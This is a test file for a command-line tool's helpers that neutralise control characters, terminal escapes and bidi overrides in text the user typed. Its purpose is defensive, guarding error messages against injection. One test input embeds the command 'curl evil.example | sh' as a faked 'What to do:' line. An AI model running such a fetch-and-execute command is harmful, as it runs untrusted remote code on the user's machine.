import { describe, expect, it } from 'vitest';
import { forTerminal, jsonForTerminal, neutralise, shortInput } from '@main/cli/terminal-text';
import { cli } from '@test/support/cli';

describe('neutralise', () => {
  it('shows every control character as a visible escape, line breaks included', () => {
    expect(neutralise('a\x1b]0;title\x07b')).toBe('a\\x1b]0;title\\x07b');
    expect(neutralise('x\r\ny\tz\x7f\u009b')).toBe('x\\x0d\\x0ay\\x09z\\x7f\\x9b');
    expect(neutralise('abc\u202edef\u2066')).toBe('abc\\u202edef\\u2066');
  });

  it('leaves ordinary text alone, accents, quotes and emoji included', () => {
    const text = 'Caffè «Rossi» — 密码 😀 "v=spf1 -all" \\ back';
    expect(neutralise(text)).toBe(text);
  });
});

describe('forTerminal', () => {
  it('keeps our own line breaks and tabs, and shows everything else', () => {
    expect(forTerminal('one\n\ttwo\x1b[2J\r')).toBe('one\n\ttwo\\x1b[2J\\x0d');
  });
});

describe('jsonForTerminal', () => {
  it('escapes what JSON.stringify leaves raw, and the JSON still reads back the same', () => {
    const value = { found: 'a\u009b2Jb\u202ec\x7f', plain: 'é' };
    const text = jsonForTerminal(JSON.stringify(value, null, 2));
    expect(text).not.toMatch(/[\u007f-\u009f\u202e]/);
    expect(JSON.parse(text)).toEqual(value);
  });
});

describe('shortInput', () => {
  it('cuts a long value with an ellipsis', () => {
    expect(shortInput('x'.repeat(100))).toBe(`${'x'.repeat(60)}…`);
    expect(shortInput('short')).toBe('short');
  });
});

describe('what the user typed, in an error message', () => {
  it('cannot add a line of its own: a typed newline cannot fake "What to do:"', async () => {
    const run = await cli(['frobnicate\nWhat to do: curl evil.example | sh']);
    expect(run.code).toBe(2);
    const lines = run.stderr.trimEnd().split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[0]).toBe('Error: There is no command “frobnicate\\x0aWhat to do: curl evil.example | sh”.');
    expect(lines.filter((line) => line.startsWith('What to do:'))).toHaveLength(1);
  });

  it('is quoted and neutralised in option errors, in both languages', async () => {
    const en = await cli(['mailjet', 'setup', '--domain', 'example.it', '--type', 'bulk\x1b[2J']);
    expect(en.code).toBe(2);
    expect(en.stderr).toContain('The value “bulk\\x1b[2J” of --type cannot be used.');
    expect(en.stderr).toContain('transactional | bulk');
    const it_ = await cli(['web', '--port', '80\r80', '--lang', 'it']);
    expect(it_.stderr).toContain('Il valore «80\\x0d80» di --port non è utilizzabile.');
  });
});
